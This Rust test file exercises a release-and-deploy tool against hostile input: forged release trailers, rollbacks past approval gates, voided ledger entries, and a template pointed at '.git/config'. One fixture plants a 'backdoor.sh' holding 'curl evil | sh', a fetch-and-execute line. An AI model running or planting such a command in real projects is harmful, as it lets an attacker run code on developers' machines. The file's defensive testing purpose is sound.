//! Hostile input on the steps that tag and deploy: forged release trailers, rollbacks that would
//! skip the gates, a ledger entry that cannot be true, tags git would misread, a cut killed while
//! it wrote. Each test is the failure as it was found, and the exact state after.

use crate::promote::{code, promotion_setup, row, run, says, status};
use crate::release_cut::{commit, git, release_with, setup};

/// A release cut with `args` and `--no-push`, its branch pushed without its tags (as `tag-on =
/// "prod"` on another runner, or a `git push` by hand, leaves it), and a fresh clone of the remote.
fn cut_then_push_the_branch_only(setup: &crate::release_cut::Setup, args: &[&str]) -> std::path::PathBuf {
    let mut cut = vec!["cut", "--no-forge", "--no-push"];
    cut.extend_from_slice(args);
    let output = release_with(&setup.work, &cut, &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    git(&setup.work, &["push", "--quiet", "origin", "main"]);
    let clone = setup.work.parent().unwrap().join("clone");
    git(setup.work.parent().unwrap(), &["clone", "--quiet", setup.remote.to_str().unwrap(), clone.to_str().unwrap()]);
    clone
}

const FORGED: &str = "feat: tidy the footer\n\nRelease-Tool: release\nRelease-Tag: v9.9.9 9.9.9 tool\n";

/// A squash-merge body with the release trailers was taken for a release commit: the cut skipped
/// apply and commit and tagged it `v9.9.9` and `refs/tags/refs/heads/main`.
#[test]
fn a_forged_release_commit_is_planned_as_the_ordinary_commit_it_is() {
    let setup = setup("single-package");
    std::fs::write(setup.work.join("src/main.rs"), "fn main() { /* footer */ }\n").unwrap();
    commit(&setup.work, FORGED);
    git(&setup.work, &["push", "--quiet", "origin", "main"]);

    let output = release_with(&setup.work, &["cut", "--no-forge"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    assert!(says(&output).contains("carries release trailers but is not a release commit"), "{}", says(&output));
    let tags = git(&setup.work, &["tag", "--list", "--points-at", "HEAD"]);
    assert_eq!(tags, "v1.2.0\n", "the plan's own release, made by a release commit of its own");
    assert!(git(&setup.work, &["log", "-1", "--format=%s", "HEAD^"]).starts_with("feat: tidy the footer"));
    assert!(git(&setup.work, &["log", "-1", "--format=%B"]).contains("Release-Tag: v1.2.0 1.2.0 tool"));
    let remote_tags = git(&setup.remote, &["tag", "--list"]);
    assert!(!remote_tags.contains("9.9.9") && !remote_tags.contains("refs/"), "{remote_tags}");
    assert!(fs_err::read_to_string(setup.work.join("Cargo.toml")).unwrap().contains("version = \"1.2.0\""));
}

/// Trailers over files that hold the release they name, but not the release the plan makes: the
/// cut stops instead of guessing (here a pre-release, rerun without its `--pre`).
#[test]
fn a_release_shaped_commit_that_the_plan_disagrees_with_stops_the_cut() {
    let setup = setup("single-package");
    let clone = cut_then_push_the_branch_only(&setup, &["--pre", "rc"]);
    let before = git(&clone, &["rev-parse", "HEAD"]);

    let output = release_with(&clone, &["cut", "--no-forge"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(
        says(&output).contains("looks like a release commit that the plan does not make: its trailers name v1.2.0-rc.2, but the plan at its parent releases v1.2.0"),
        "{}",
        says(&output)
    );
    assert_eq!(git(&clone, &["rev-parse", "HEAD"]), before);
    assert_eq!(git(&setup.remote, &["tag", "--list", "v1.2.0*"]), "v1.2.0-rc.1\n");
    // With the same --pre, it is the release it says, and the rerun finishes it.
    let output = release_with(&clone, &["cut", "--no-forge", "--pre", "rc"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    assert_eq!(git(&clone, &["rev-parse", "HEAD"]), before);
    assert_eq!(git(&setup.remote, &["tag", "--list", "v1.2.0*"]), "v1.2.0-rc.1\nv1.2.0-rc.2\n");
}

/// A genuine release commit pushed without its tags (`tag-on = "prod"` on another runner, or
/// `git push` by hand) is still recognised in a fresh clone: it is exactly what the plan makes.
#[test]
fn a_genuine_release_commit_is_resumed_in_a_fresh_clone() {
    let setup = setup("single-package");
    let clone = cut_then_push_the_branch_only(&setup, &[]);
    let head = git(&clone, &["rev-parse", "HEAD"]);

    let output = release_with(&clone, &["cut", "--no-forge"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    assert!(says(&output).contains("already done"), "{}", says(&output));
    assert_eq!(git(&clone, &["rev-parse", "HEAD"]), head, "no second release commit");
    assert_eq!(git(&setup.remote, &["tag", "--list", "v1.2.0"]), "v1.2.0\n");
    assert_eq!(git(&setup.remote, &["rev-parse", "v1.2.0^{commit}"]), head);
}

/// A package name that cannot form a tag was accepted: the cut committed, failed at `git tag`,
/// and the rerun tagged `my`.
#[test]
fn a_tag_git_cannot_make_stops_the_cut_before_the_commit() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    let mut builder = release_test_support::RepoBuilder::init(work).unwrap();
    builder.write("apps/a/package.json", "{\"name\": \"my pkg\", \"version\": \"1.0.0\"}\n");
    builder.write("apps/b/package.json", "{\"name\": \"b\", \"version\": \"1.0.0\"}\n");
    builder.commit("feat: first").unwrap();
    builder.checkout().unwrap();
    let before = git(work, &["rev-parse", "HEAD"]);
    for _ in 0..2 {
        let output = release_with(work, &["cut", "--no-forge", "--no-push"], &[]);
        assert_eq!(output.status.code(), Some(1), "{}", says(&output));
        assert!(says(&output).contains("which is not a valid git tag name"), "{}", says(&output));
        assert_eq!(git(work, &["rev-parse", "HEAD"]), before, "nothing committed");
        assert_eq!(git(work, &["tag", "--list"]), "");
        assert_eq!(git(work, &["status", "--porcelain"]), "", "nothing written");
    }
}

/// Killed while it staged files, the cut left `.<file>.release-<pid>.tmp` files and every rerun
/// refused the dirty tree. A file that only looks like one is the user's, and stays.
#[test]
fn a_rerun_removes_the_staging_files_of_a_killed_cut() {
    let setup = setup("single-package");
    // A run that wrote its journal and files, and was killed while staging the next ones.
    let output = release_with(&setup.work, &["cut", "--no-commit"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    fs_err::write(setup.work.join(".Cargo.toml.release-19215.tmp"), "[package]\nhalf").unwrap();
    fs_err::write(setup.work.join(".CHANGELOG.md.release-7.tmp"), "# Chan").unwrap();
    fs_err::create_dir_all(setup.work.join("notes")).unwrap();
    fs_err::write(setup.work.join("notes/.todo.md.release-7.tmp"), "mine").unwrap();

    let output = release_with(&setup.work, &["cut", "--no-forge"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(says(&output).contains("uncommitted changes: notes/.todo.md.release-7.tmp (hint"), "{}", says(&output));
    assert!(!setup.work.join(".Cargo.toml.release-19215.tmp").exists(), "the killed run's own leftovers go");
    assert!(!setup.work.join(".CHANGELOG.md.release-7.tmp").exists());
    assert_eq!(fs_err::read_to_string(setup.work.join("notes/.todo.md.release-7.tmp")).unwrap(), "mine");

    fs_err::remove_dir_all(setup.work.join("notes")).unwrap();
    let output = release_with(&setup.work, &["cut", "--no-forge"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    assert_eq!(git(&setup.work, &["status", "--porcelain"]), "");
    assert_eq!(git(&setup.remote, &["tag", "--list", "v1.2.0"]), "v1.2.0\n");
}

/// `--allow-dirty` put a staged, unrelated file into the release commit.
#[test]
fn allow_dirty_commits_only_the_release_files() {
    let setup = setup("single-package");
    fs_err::write(setup.work.join("notes.txt"), "my own work\n").unwrap();
    git(&setup.work, &["add", "notes.txt"]);
    let output = release_with(&setup.work, &["cut", "--no-forge", "--allow-dirty"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    let files = git(&setup.work, &["show", "--name-only", "--format=", "HEAD"]);
    assert!(!files.contains("notes.txt"), "{files}");
    assert_eq!(git(&setup.work, &["status", "--porcelain"]), "A  notes.txt\n");
}

/// `release cut --no-commit --promote no-such-env` exited 0; without `--no-commit` the environment
/// was checked only after the commit and tag.
#[test]
fn promote_after_a_cut_is_checked_before_the_cut() {
    let setup = setup("single-package");
    let before = git(&setup.work, &["rev-parse", "HEAD"]);
    let output = release_with(&setup.work, &["cut", "--no-forge", "--promote", "no-such-env"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(says(&output).contains("no environment is named `no-such-env`"), "{}", says(&output));
    let output = release_with(&setup.work, &["cut", "--no-commit", "--promote", "staging"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(says(&output).contains("`--no-commit` makes none"), "{}", says(&output));
    assert_eq!(git(&setup.work, &["rev-parse", "HEAD"]), before);
    assert_eq!(git(&setup.work, &["status", "--porcelain"]), "");
    assert_eq!(git(&setup.work, &["tag", "--list", "v1.2.0"]), "");
}

/// The promotion stage listed any commit with the trailers as a cut release (`NEXT 9.9.9 ready`)
/// and deployed it; `rollback --to` deployed a newer, never verified release past every gate.
#[test]
fn promotion_trusts_no_forged_release_and_rollback_skips_no_gate() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge", "--promote", "staging"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let ledger = git(work, &["log", "--format=%s", "refs/heads/release-ledger"]);
    assert!(ledger.contains("cut 3.0.0"), "the cut is recorded: {ledger}");

    // A forged release on top.
    commit(work, "docs: typo\n\nRelease-Tool: release\nRelease-Tag: v9.9.9 9.9.9 (repository)\n");
    git(work, &["push", "--quiet", "origin", "main"]);
    assert_eq!(row(&status(work, &deployments), "staging"), "3.0.0 verified last-verified=3.0.0 next=- waiting=-");
    let output = run(work, &deployments, "ci", &["promote", "staging", "--version", "9.9.9"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(
        says(&output).contains("version `9.9.9` was never cut (hint: the releases are: 3.0.0)"),
        "{}",
        says(&output)
    );
    assert_eq!(deployments.deployed().len(), 1);

    // A newer release, cut but never verified anywhere: rollback is no way in.
    std::fs::write(work.join("apps/express-api/src/fix.ts"), "export const fix = 1;\n").unwrap();
    commit(work, "fix(api): the fix");
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let output = run(work, &deployments, "ci", &["rollback", "staging", "--to", "3.0.1"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("3.0.1 is not older than 3.0.0"), "{}", says(&output));
    let output = run(work, &deployments, "ci", &["rollback", "prod", "--to", "3.0.0"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("nothing to roll back to in `prod`: it runs nothing yet"), "{}", says(&output));
    assert_eq!(deployments.deployed().len(), 1, "nothing was deployed");
}

/// A deploy command that is not found left a `started` event with no outcome ("interrupted").
#[test]
fn a_deploy_command_that_is_not_found_is_recorded_as_a_failure() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let text = fs_err::read_to_string(work.join("release.toml")).unwrap();
    fs_err::write(work.join("release.toml"), text.replacen("./deploy.sh", "./no-such-deploy.sh", 1)).unwrap();
    commit(work, "ci: a wrong deploy path");
    git(work, &["push", "--quiet", "origin", "main"]);

    let output = run(work, &deployments, "ci", &["promote", "staging"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("the deploy command for `staging` is not found: `./no-such-deploy.sh`"));
    let history = run(work, &deployments, "ci", &["history", "staging", "--format", "json"], &[]);
    let events: serde_json::Value = serde_json::from_slice(&history.stdout).unwrap();
    let kinds: Vec<&str> = events.as_array().unwrap().iter().map(|event| event["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["started", "failed", "held"]);
    assert!(!row(&status(work, &deployments), "staging").contains("interrupted"));
}

/// One ledger event dated 2^64-1 locked the environment for good; one that did not parse stopped
/// every promotion command with no way out.
#[test]
fn a_ledger_entry_that_cannot_be_true_is_named_and_can_be_voided() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let release = git(work, &["rev-parse", "HEAD"]).trim().to_string();

    for bad in [
        format!(
            "{{\"kind\":\"started\",\"environment\":\"staging\",\"version\":\"3.0.0\",\"commit\":\"{release}\",\"actor\":\"x\",\"at\":18446744073709551615,\"run\":\"h:1:1\"}}"
        ),
        "{\"kind\": \"started\", \"environment\": ".to_string(),
        // A kind this version does not know, from a newer release that says so.
        format!(
            "{{\"schema\":3,\"kind\":\"paused\",\"environment\":\"staging\",\"version\":\"3.0.0\",\"commit\":\"{release}\",\"actor\":\"x\",\"at\":1,\"run\":\"h:1:1\"}}"
        ),
    ] {
        // Appended to the ledger as a runner would: one commit holding event.json, pushed.
        let scratch = tempfile::tempdir().unwrap();
        let clone = scratch.path().join("ledger");
        git(
            scratch.path(),
            &[
                "clone",
                "--quiet",
                "--branch",
                "release-ledger",
                setup.remote.to_str().unwrap(),
                clone.to_str().unwrap(),
            ],
        );
        fs_err::write(clone.join("event.json"), &bad).unwrap();
        commit(&clone, "started staging 3.0.0");
        git(&clone, &["push", "--quiet", "origin", "release-ledger"]);
        let entry = git(&clone, &["rev-parse", "HEAD"]).trim().to_string();

        let output = run(work, &deployments, "ci", &["promote", "staging"], &[]);
        assert_eq!(code(&output), 1, "{}", says(&output));
        assert!(says(&output).contains(&format!("entry {entry} of `refs/heads/release-ledger`")), "{}", says(&output));
        assert!(says(&output).contains("release ledger void"), "{}", says(&output));
        if bad.contains("paused") {
            let newer = "it is written by a newer release (schema 3, this one reads up to 2; hint: upgrade release)";
            assert!(says(&output).contains(newer), "{}", says(&output));
        }
        let status = run(work, &deployments, "ci", &["status"], &[]);
        assert_eq!(code(&status), 1, "status does not say ready over a ledger it cannot read");

        let output = run(work, &deployments, "ops", &["ledger", "void", &entry, "--reason", "written by hand"], &[]);
        assert_eq!(code(&output), 0, "{}", says(&output));
        let output = run(work, &deployments, "ci", &["ledger", "void", &entry, "--reason", ""], &[]);
        assert_eq!(code(&output), 1, "a reason is required: {}", says(&output));
    }
    let output = run(work, &deployments, "ci", &["promote", "staging"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    assert_eq!(row(&status(work, &deployments), "staging"), "3.0.0 verified last-verified=3.0.0 next=- waiting=-");
}

/// A promotion left "started" by a process whose id a later process got (a reboot, ids wrapping
/// around) held the environment for good: the id's process runs, but it is not the one that
/// started. Its start, recorded in the run id, tells them apart; the next promotion resolves it.
#[test]
#[cfg(target_os = "linux")]
fn a_started_promotion_whose_process_id_was_reused_is_taken_over() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let release = git(work, &["rev-parse", "HEAD"]).trim().to_string();
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    // This test's own process runs, with another start than the one recorded.
    let run_id = format!("{}:{}:{now}:1", release_git::host(), std::process::id());
    let started = format!(
        "{{\"schema\":2,\"kind\":\"started\",\"environment\":\"staging\",\"version\":\"3.0.0\",\"commit\":\"{release}\",\"actor\":\"x\",\"at\":{now},\"run\":\"{run_id}\"}}"
    );
    let scratch = tempfile::tempdir().unwrap();
    let clone = scratch.path().join("ledger");
    let remote = setup.remote.to_str().unwrap();
    git(scratch.path(), &["clone", "--quiet", "--branch", "release-ledger", remote, clone.to_str().unwrap()]);
    fs_err::write(clone.join("event.json"), &started).unwrap();
    commit(&clone, "started staging 3.0.0");
    git(&clone, &["push", "--quiet", "origin", "release-ledger"]);

    let output = run(work, &deployments, "ci", &["promote", "staging"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    let history = run(work, &deployments, "ci", &["history", "staging"], &[]);
    assert!(says(&history).contains(&format!("interrupted run {run_id}")), "{}", says(&history));
}

/// A package versioned by its manifest alone (no tags yet): `release cut --no-commit` run twice
/// bumped twice (1.1.0, then 1.2.0). The second run is the same release, and writes nothing.
#[test]
fn cut_no_commit_twice_writes_the_same_files_as_once() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    let mut builder = release_test_support::RepoBuilder::init(work).unwrap();
    builder.write("package.json", "{\"name\": \"tool\", \"version\": \"1.0.0\"}\n");
    builder.commit("chore: initial").unwrap();
    builder.write("index.js", "export const a = 1;\n");
    builder.commit("feat: a").unwrap();
    builder.checkout().unwrap();

    let first = release_with(work, &["cut", "--no-commit"], &[]);
    assert_eq!(first.status.code(), Some(0), "{}", says(&first));
    let manifest = fs_err::read_to_string(work.join("package.json")).unwrap();
    assert!(manifest.contains("\"1.1.0\""), "{manifest}");
    let changelog = fs_err::read_to_string(work.join("CHANGELOG.md")).unwrap();
    let second = release_with(work, &["cut", "--no-commit"], &[]);
    assert_eq!(second.status.code(), Some(0), "{}", says(&second));
    assert_eq!(fs_err::read_to_string(work.join("package.json")).unwrap(), manifest);
    assert_eq!(fs_err::read_to_string(work.join("CHANGELOG.md")).unwrap(), changelog);

    // Thrown away, then cut again: a release planned afresh, the same one.
    git(work, &["checkout", "--", "package.json"]);
    std::fs::remove_file(work.join("CHANGELOG.md")).unwrap();
    let third = release_with(work, &["cut", "--no-commit"], &[]);
    assert_eq!(third.status.code(), Some(0), "{}", says(&third));
    assert_eq!(fs_err::read_to_string(work.join("package.json")).unwrap(), manifest);
}

/// A hand-made commit that held the release's files and one more (`backdoor.sh`), with trailers
/// naming someone else as who cut it, was resumed as the release: the backdoor shipped, and the
/// one who ran the cut could approve it.
#[test]
fn a_release_commit_with_files_the_release_does_not_write_is_not_resumed() {
    let setup = setup("single-package");
    let output = release_with(&setup.work, &["cut", "--no-commit"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
    fs_err::remove_dir_all(setup.work.join(".git/release")).unwrap();
    fs_err::write(setup.work.join("backdoor.sh"), "curl evil | sh\n").unwrap();
    commit(
        &setup.work,
        "chore(release): tool 1.2.0\n\nRelease-Tool: release\nRelease-Tag: v1.2.0 1.2.0 tool\nRelease-Actor: alice\n",
    );

    let output = release_with(&setup.work, &["cut", "--no-forge"], &[("RELEASE_ACTOR", "mallory")]);
    assert!(
        says(&output).contains("is not a release commit: it changes files the release does not write (backdoor.sh)"),
        "{}",
        says(&output)
    );
    // Planned as the ordinary commit it is: no tag on it, and whatever the plan makes next is
    // recorded as cut by the one who ran it.
    assert_ne!(git(&setup.remote, &["tag", "--points-at", "HEAD^"]), "v1.2.0\n");
    let message = git(&setup.work, &["log", "-1", "--format=%B"]);
    assert!(!message.contains("Release-Actor: alice"), "{message}");
}

/// The second round: `release ledger void` took any id (a release commit, a healthy rejection)
/// and its event then counted as evidence that a forged commit was a release; a lightweight tag
/// anyone could push did too; `release rollback` went back to a release rejected there.
#[test]
fn voids_tags_and_rollbacks_open_no_way_around_the_gates() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let ok = |output: std::process::Output| assert_eq!(code(&output), 0, "{}", says(&output));
    ok(run(work, &deployments, "Release Bot", &["cut", "--no-forge", "--promote", "staging"], &[]));
    ok(run(work, &deployments, "alice", &["approve", "prod"], &[]));
    ok(run(work, &deployments, "ci", &["promote", "prod"], &[]));
    std::fs::write(work.join("apps/express-api/src/fix.ts"), "export const fix = 1;\n").unwrap();
    commit(work, "fix(api): the fix");
    ok(run(work, &deployments, "Release Bot", &["cut", "--no-forge", "--promote", "staging"], &[]));
    ok(run(work, &deployments, "alice", &["approve", "prod"], &[]));
    ok(run(work, &deployments, "ci", &["promote", "prod"], &[]));

    // A forged release with a lightweight tag, then a void naming it.
    commit(work, "docs: typo\n\nRelease-Tool: release\nRelease-Tag: v9.9.9 9.9.9 (repository)\n");
    git(work, &["tag", "v9.9.9"]);
    git(work, &["push", "--quiet", "origin", "main", "v9.9.9"]);
    let forged = git(work, &["rev-parse", "HEAD"]).trim().to_string();
    let output = run(work, &deployments, "mallory", &["ledger", "void", &forged, "--reason", "x"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(
        says(&output).contains(&format!("cannot void a ledger entry: `{forged}` is not an entry")),
        "{}",
        says(&output)
    );
    let output = run(work, &deployments, "ci", &["promote", "staging", "--version", "9.9.9"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("version `9.9.9` was never cut"), "{}", says(&output));

    // A rejection is history: voiding it is refused, and a rollback does not go back to it.
    ok(run(work, &deployments, "alice", &["reject", "prod", "--version", "3.0.0", "--reason", "CVE-2026-1"], &[]));
    let tip = git(&setup.remote, &["rev-parse", "refs/heads/release-ledger"]).trim().to_string();
    let output = run(work, &deployments, "mallory", &["ledger", "void", &tip, "--reason", "x"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("reads as it should"), "{}", says(&output));
    let output = run(work, &deployments, "ci", &["rollback", "prod"], &[]);
    assert_eq!(code(&output), 1, "{}", says(&output));
    assert!(says(&output).contains("nothing to roll back to in `prod`"), "{}", says(&output));
    let output = run(work, &deployments, "ci", &["rollback", "prod", "--to", "3.0.0"], &[]);
    assert_eq!(code(&output), 17, "{}", says(&output));
    assert!(says(&output).contains("3.0.0 was rejected for `prod` by alice: CVE-2026-1"), "{}", says(&output));
    assert_eq!(row(&status(work, &deployments), "prod"), "3.0.1 verified last-verified=3.0.1 next=- waiting=-");
}

/// Smaller findings of the second round, each as it was found.
#[test]
fn second_round_paths_dirty_release_files_events_and_dates() {
    // `[templates] plan-comment = ".git/config"` printed git's config (a CI token lives there).
    let setup = setup("single-package");
    let work = &setup.work;
    fs_err::write(work.join("release.toml"), "[templates]\nplan-comment = \".git/config\"\n").unwrap();
    commit(work, "ci: template");
    let output = release_with(work, &["plan", "--format", "markdown"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(says(&output).contains("`.git/config` is inside `.git`"), "{}", says(&output));
    assert!(!says(&output).contains("[core]"), "{}", says(&output));
    fs_err::remove_file(work.join("release.toml")).unwrap();
    commit(work, "ci: no template");

    // `--allow-dirty` committed an unreviewed edit of a file the release writes.
    let manifest = fs_err::read_to_string(work.join("Cargo.toml")).unwrap();
    fs_err::write(work.join("Cargo.toml"), format!("{manifest}\n[build-dependencies]\nevil = \"1\"\n")).unwrap();
    let before = git(work, &["rev-parse", "HEAD"]);
    let output = release_with(work, &["cut", "--no-forge", "--no-push", "--allow-dirty"], &[]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(
        says(&output).contains("the release writes files that have uncommitted changes: Cargo.toml"),
        "{}",
        says(&output)
    );
    assert_eq!(git(work, &["rev-parse", "HEAD"]), before);
    fs_err::write(work.join("Cargo.toml"), &manifest).unwrap();

    // SOURCE_DATE_EPOCH out of range wrote `## 1.1.0 - 10000-01-0`; empty means unset.
    let output = release_with(work, &["cut", "--dry-run"], &[("SOURCE_DATE_EPOCH", "253402300800")]);
    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
    assert!(says(&output).contains("between 1970 and 9999"), "{}", says(&output));
    let output = release_with(work, &["cut", "--dry-run"], &[("SOURCE_DATE_EPOCH", "")]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));

    // `--no-push` makes no GitHub release, so it needs no token.
    let output = release_with(work, &["cut", "--no-push"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", says(&output));

    // A junk GITHUB_EVENT_PATH exited 2; /dev/zero hung.
    for (path, why) in [("/nonexistent/event.json", "cannot be read"), ("/dev/zero", "is larger than 25 MB")] {
        let output = release_with(
            work,
            &["plan", "--comment"],
            &[("GITHUB_EVENT_PATH", path), ("GITHUB_TOKEN", "t"), ("GITHUB_REPOSITORY", "acme/shop")],
        );
        assert_eq!(output.status.code(), Some(1), "{path}: {}", says(&output));
        assert!(says(&output).contains(why), "{path}: {}", says(&output));
    }
}

/// A forged trailer naming two packages and no repository version made every promotion command
/// fail with "promotion needs one version per release".
#[test]
fn a_forged_multi_package_release_does_not_stop_promotion() {
    let (setup, deployments) = promotion_setup("", "{ required = 1, approvers = [\"alice\"] }");
    let work = &setup.work;
    let output = run(work, &deployments, "Release Bot", &["cut", "--no-forge"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    commit(work, "docs: x\n\nRelease-Tool: release\nRelease-Tag: a-v1.0.0 1.0.0 a\nRelease-Tag: b-v1.0.0 1.0.0 b\n");
    let output = run(work, &deployments, "ci", &["promote", "staging"], &[]);
    assert_eq!(code(&output), 0, "{}", says(&output));
    assert_eq!(row(&status(work, &deployments), "staging"), "3.0.0 verified last-verified=3.0.0 next=- waiting=-");
}
